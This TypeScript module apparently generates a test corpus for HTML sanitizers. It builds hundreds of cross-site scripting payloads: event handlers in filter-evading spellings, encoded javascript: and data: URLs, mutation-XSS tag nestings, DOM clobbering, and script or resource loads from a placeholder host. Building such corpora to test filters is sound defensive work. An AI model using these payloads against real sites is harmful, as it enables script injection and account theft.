/**
 * Markup that runs a script, loads from elsewhere or frames a page wherever it is taken for more than text: the ways
 * that are known (handlers, addresses, foreign content, raw-text tags, broken parsing and what parses twice), each in
 * the spellings that filters have missed. Made up of parts, so that the list says what it tries.
 */

/** What a script sets that has run; nobody else does. */
export const ownedMark = '__owned';
/** A host that a payload loads from; it exists nowhere. */
export const payloadHost = 'payload.invalid';

const run = `globalThis.${ownedMark}=1`;
const js = `javascript:${run}`;
const remote = `https://${payloadHost}`;

/** Tags that call a handler by themselves as soon as they stand in a page. */
const selfCalling: readonly (readonly [tag: string, attributes: string, handler: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['details', 'open', 'ontoggle'],
  ['marquee', 'width=1', 'onstart'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['p', 'style="animation:spin 1ms"', 'onanimationstart'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['li', 'contenteditable autofocus tabindex=0', 'onfocus'],
  ['td', 'tabindex=0 autofocus', 'onfocus'],
  ['xss', 'tabindex=1 autofocus', 'onfocus'],
];

/** How a tag and its handler have been spelt past filters. */
const handlerSpellings: readonly ((tag: string, attributes: string, handler: string) => string)[] = [
  (tag, attributes, handler) => `<${tag} ${attributes} ${handler}="${run}">`,
  (tag, attributes, handler) => `<${tag}/${attributes.replaceAll(' ', '/')}/${handler}=${run}>`,
  (tag, attributes, handler) => `<${tag.toUpperCase()}\n${attributes}\t${handler.toUpperCase()} = '${run}'>`,
  (tag, attributes, handler) => `<${tag} ${attributes} ${handler}=&#103;lobalThis.${ownedMark}=1 x=`,
  (tag, attributes, handler) => `"><${tag} ${attributes} ${handler}=\`${run}\`>`,
  (tag, attributes, handler) => `<p title="</p><${tag} ${attributes} ${handler}='${run}'>">`,
];

const addresses: readonly string[] = [
  js,
  js.toUpperCase().replace(run.toUpperCase(), run),
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript&colon;${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `\u0001javascript:${run}`,
  ` ${js}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9fb3duZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `//${payloadHost}/x`,
  `/\\${payloadHost}/x`,
];

const addressed: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a xlink:href='${address}' href='${address}'>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<math href="${address}">x</math>`,
];

/** What a second parsing turns into something else than the first one saw (mXSS), by the tags that do it. */
const parsedTwice: readonly string[] = [
  'svg><style',
  'math><mtext><table><mglyph><style',
  'svg><title',
  'svg><desc',
  'math><annotation-xml encoding="text/html"><style',
  'noscript',
  'xmp',
  'noembed',
  'noframes',
  'plaintext',
  'title',
  'textarea',
  'template',
  'select><style',
  'table><caption><style',
  'form><math><mtext></form><form><mglyph><style',
  'svg><foreignobject><style',
  'p><style',
  'iframe',
  'listing',
];

const hidden: readonly ((tags: string) => string)[] = [
  (tags) => `<${tags}><!--</${closing(tags)}><img src=x onerror=${run}>-->`,
  (tags) => `<${tags}><a title="</${closing(tags)}><img src=x onerror=${run}>">`,
  (tags) => `<${tags}></${closing(tags)}><script>${run}</script>`,
];

const closing = (tags: string): string => /(\w[\w-]*)[^<]*$/.exec(tags)![1]!;

const singles: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${remote}/x.js"></script>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="${js}"/><a id=x>x</a></svg>`,
  `<img src="${remote}/a.png">`,
  `<img srcset="${remote}/b.png 1x">`,
  `<p style="background:url(${remote}/c.png)">x</p>`,
  `<style>@import '${remote}/d.css';</style>`,
  `<style>p{background:url(${remote}/e.png)}</style>`,
  `<link rel=stylesheet href="${remote}/f.css">`,
  `<link rel=prefetch href="${remote}/g">`,
  `<video poster="${remote}/h.png"></video>`,
  `<audio src="${remote}/i.mp3" autoplay></audio>`,
  `<table background="${remote}/j.png"><tr><td>x</table>`,
  `<base href="${remote}/"><p>x`,
  `<iframe srcdoc="<script>parent.${ownedMark}=1</script>"></iframe>`,
  `<form id=x><input name=attributes><input name=parentNode></form><img src=x onerror=${run}>`,
  `<a id=defaultView><a id=defaultView name=x href="cid:x">`,
  `<p id=body>x</p><form name=getElementById>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `&lt;img src=x onerror=${run}&gt;<img src=x onerror&#x3D;${run}>`,
  `<img src=x:x onerror\u0000=${run}>`,
  `<img \u0000src=x onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<p is=x-x onclick=${run}>x</p><button popovertarget=q autofocus>x</button><p popover id=q onbeforetoggle=${run}>`,
];

/** All of them, the families mixed, so that the first so many are of every family. */
export function scriptPayloads(count: number): readonly string[] {
  const families = [
    selfCalling.flatMap((each) => handlerSpellings.map((spell) => spell(...each))),
    addressed.flatMap((hold) => addresses.map((address) => hold(address))),
    parsedTwice.flatMap((tags) => hidden.map((hide) => hide(tags))),
    [...singles],
  ];
  const mixed: string[] = [];
  for (let at = 0; families.some((family) => at < family.length); at++) {
    for (const family of families) if (at < family.length) mixed.push(family[at]!);
  }
  if (count > mixed.length) throw new RangeError(`${mixed.length} payloads`);
  return mixed.slice(0, count);
}
